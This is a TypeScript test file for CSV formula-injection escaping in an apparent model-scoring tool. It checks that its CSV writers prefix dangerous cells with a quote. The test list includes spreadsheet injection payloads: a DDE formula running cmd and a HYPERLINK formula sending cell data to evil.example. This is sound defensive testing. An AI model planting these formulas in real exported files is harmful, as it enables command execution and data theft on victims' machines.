import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { toCsv } from '../../../../cli/predictions/batch-rows.ts';
import { escapeFormula, type Formulas, isFormula } from '../../../../lib/files/csv/formulas.ts';
import { createApi } from '../../../../lib/http/create-api.ts';
import { rejectedKey, resultKey } from '../../../../lib/jobs/job.ts';
import { writeResults } from '../../../../web/src/batch/results.ts';
import { createCaller } from '../../../support/call-api.ts';
import { exampleArtifact } from '../../../support/example-model.ts';
import { createMemoryWorld } from '../../../support/memory-world.ts';
import { runJobs } from '../../../support/run-jobs.ts';
import { scoreText } from '../../../support/score-text.ts';

const RUN = [
  '=1+1',
  '=cmd|’ /C calc’!A0',
  '=HYPERLINK("http://evil.example?x="&A1)',
  '@SUM(1+1)*cmd|A0',
  '+A1',
  '-A1',
  '+cmd|A0',
  '-2+3+cmd|A0',
  '-1*2',
  '+e5',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠A1',
  '=',
  '@',
];
const KEPT = [
  '',
  'web',
  "'=1",
  'a=b',
  ' =1',
  '-5',
  '+5',
  '-1.5e-7',
  '+1E5',
  '-0,05',
  '-1.234.567,89',
  '- 5',
  '-12 %',
  '+49 170 1234567',
  '+49 (0)89/1234-56',
  '+1-202-555-0100',
  '-2026-01-31',
  '-',
  '--',
  '１',
  'ﬁt',
];

test.each(RUN)('%j is run by spreadsheets, and made text', (text) => {
  expect(escapeFormula(text)).toBe(`'${text}`);
});

test.each(KEPT)('%j is a number or a text, and stays', (text) => {
  expect(escapeFormula(text)).toBe(text);
});

/** By what OWASP lists, and by no means of the code under test. */
const isRun = (text: string): boolean =>
  /^[=@\t\r\n＝＋－＠]/.test(text) ||
  (/^[+-]/.test(text) && !/^[+-][\d .,()/%+-]*$/.test(text) && Number.isNaN(Number(text.replace(',', '.'))));

const cell = fc.oneof(
  fc.constantFrom(...RUN, ...KEPT),
  fc.string({ unit: fc.constantFrom(...`=+-@\t\n\r＝＠"'; ,.|!A1e5(`), maxLength: 8 }),
  fc.string({ unit: 'grapheme', maxLength: 8 }).filter((text) => !text.includes('\0')),
);

test('bytes and texts are judged alike, wherever a cell stands', () => {
  fc.assert(
    fc.property(cell, cell, cell, (before, text, after) => {
      const bytes = Buffer.from(before + text + after);
      const start = Buffer.byteLength(before);
      expect(isFormula(bytes, start, start + Buffer.byteLength(text))).toBe(isRun(text));
      expect(escapeFormula(text)).toBe(isRun(text) ? `'${text}` : text);
    }),
    { numRuns: 2000 },
  );
});

const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
const artifact = exampleArtifact();

/** What each writer of CSV makes of a cell of its input, and of a column's name. */
const WRITERS: Readonly<
  Record<string, (texts: readonly string[], formulas: Formulas) => Promise<readonly string[][]>>
> = {
  'scorelane score': async (texts, formulas) => {
    const { text: result } = await scoreOf(csvOf(texts), formulas);
    return cellsOf(result, 3, texts.length);
  },
  'rejected rows': async (texts, formulas) => {
    const { rejected } = await scoreOf(csvOf(texts, 'many'), formulas);
    return cellsOf(rejected, 5, texts.length);
  },
  'results of jobs': async (texts, formulas) =>
    cellsOf((await runJob(texts, '1', formulas)).result, 3, texts.length),
  'rejected rows of jobs': async (texts, formulas) =>
    cellsOf((await runJob(texts, 'many', formulas)).rejected, 5, texts.length),
  'scorelane batch': async (texts, formulas) => {
    const result = { id: 'id', status: 'failed', prediction: null } as const;
    const row = { line: 2, values: {}, errors: [], cells: texts };
    const csv = toCsv({ header: texts, rows: [row] }, [result], 'v1', formulas);
    return cellsOf(csv, 1, texts.length, 0);
  },
  'the page': async (texts) => {
    const file = { columns: [...texts], separator: ',', rows: [{ cells: [...texts] }] } as never;
    return cellsOf(writeResults(file, [{ row: 0, error: '=1' }] as never), 1, texts.length, 0);
  },
};

/** Two columns that the model knows, and those of the texts, named by them. */
const csvOf = (texts: readonly string[], visits = '1'): string =>
  [
    ['source', 'visits', 'x', ...texts.map((text, i) => `${text}${i}`)],
    ['web', visits, 'y', ...texts],
  ]
    .map((row) => row.map(quote).join(','))
    .join('\n');

const scoreOf = (csv: string, formulas: Formulas) =>
  scoreText(artifact, csv, { badRows: 'set aside', formulas, reasons: 1 });

async function runJob(texts: readonly string[], visits: string, formulas: Formulas) {
  const world = createMemoryWorld();
  await world.publish();
  const call = createCaller(createApi(world, { error() {}, info() {} }));
  await world.files.write('crm/a.csv', Buffer.from(csvOf(texts, visits)), 'text/csv');
  const { body } = await call('POST', '/jobs', {
    body: JSON.stringify({ source: 's3://bucket/crm/a.csv', formulas }),
    headers: { 'content-type': 'application/json' },
  });
  await runJobs(world, { chunkBytes: 1000 });
  const textOf = (key: string) => Buffer.from(world.files.objects.get(key) ?? []).toString();
  return { result: textOf(resultKey(body.job_id)), rejected: textOf(rejectedKey(body.job_id)) };
}

/** Header and row of those columns. */
function cellsOf(csv: string, from: number, count: number, first = from): string[][] {
  const options = { relax_column_count: true, skip_empty_lines: false, record_delimiter: ['\n'] };
  const rows: string[][] = parse(csv, options);
  return rows.slice(0, 2).map((row) => row.slice(first, first + count));
}

test.each(Object.keys(WRITERS))('%s: no cell of the input is run, and all others stay', async (name) => {
  await fc.assert(
    fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 4 }), async (texts) => {
      const [header, row] = await WRITERS[name]!(texts, 'escape');
      const expected = texts.map((text) => (isRun(text) ? `'${text}` : text));
      expect(row).toEqual(expected);
      for (const column of header!) expect(isRun(column)).toBe(false);
    }),
    { numRuns: name.includes('jobs') ? 15 : 60 },
  );
});

test.each(['scorelane score', 'rejected rows', 'results of jobs', 'scorelane batch'])(
  '%s: keeps them when it is told to',
  async (name) => {
    const texts = ['=1+1', '@A1', '-5', '+A1'];
    const [, row] = await WRITERS[name]!(texts, 'keep');
    expect(row).toEqual(texts);
  },
);

test('with nothing to escape a row stays byte for byte', async () => {
  const csv = 'source,visits,phone\n"web", -5 ,"+49 170"\n web ,1,""\n';
  const { text: result } = await scoreOf(csv.replace('-5', '5'), 'escape');
  for (const line of csv.replace('-5', '5').trimEnd().split('\n')) expect(result).toContain(`${line},`);
});

test('predictions.csv: neither a value nor the name of a field is run', async () => {
  const world = createMemoryWorld();
  await world.publish();
  const call = createCaller(createApi(world, { error() {}, info() {} }));
  for (const source of ['=1+1', '+49 170', '-A1']) {
    await call('POST', '/predict', {
      body: JSON.stringify({ source, visits: -5 }),
      headers: { prefer: 'wait' },
    });
  }
  const { text } = (await call('GET', '/predictions.csv')) as unknown as { text: string };
  const rows: Record<string, string>[] = parse(text, { columns: true });
  expect(rows.map(({ source }) => source).sort()).toEqual(["'-A1", "'=1+1", '+49 170']);
  expect(new Set(rows.map(({ visits }) => visits))).toEqual(new Set(['-5']));
});
